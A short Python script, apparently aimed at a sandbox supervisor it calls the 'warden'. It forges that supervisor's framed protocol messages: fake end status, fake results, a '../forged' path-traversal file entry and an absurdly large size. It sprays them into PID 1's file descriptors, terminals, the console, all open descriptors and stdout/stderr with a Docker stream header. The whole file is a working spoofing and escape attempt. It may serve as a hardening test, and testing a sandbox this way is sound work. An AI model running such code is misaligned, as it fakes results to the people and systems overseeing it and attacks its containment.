"""Speaks as the warden does, wherever it can: an end, a result, files, and what is too large."""

import contextlib
import glob
import os
import struct


def frame(kind: bytes, payload: bytes = b"") -> bytes:
    return kind + struct.pack(">I", len(payload)) + payload


ENDED = struct.pack(">BBBBQQQ", 0, 0, 0, 0, 1, 1, 1)
FORGED = b"".join(
    (
        frame(b"O", b"forged"),
        frame(b"R", ENDED),
        frame(b"S", b"forged\0"),
        frame(b"R", ENDED),
        frame(b"F", b"../forged\0forged"),
        frame(b"L", struct.pack(">BQ", 0, 1 << 60) + b"forged\0"),
        frame(b"D"),
        b"O\xff\xff\xff\xff",
    )
)
DOCKER = struct.pack(">BxxxI", 1, len(FORGED)) + FORGED
PATHS = ("/proc/1/fd/*", "/proc/1/task/1/fd/*", "/dev/pts/*", "/dev/tty", "/dev/console")

for path in (name for pattern in PATHS for name in glob.glob(pattern)):
    with contextlib.suppress(OSError), open(path, "wb", buffering=0) as file:
        file.write(FORGED)
for number in range(3, 256):
    with contextlib.suppress(OSError):
        os.write(number, FORGED)
for stream in (1, 2):
    os.write(stream, FORGED + DOCKER)
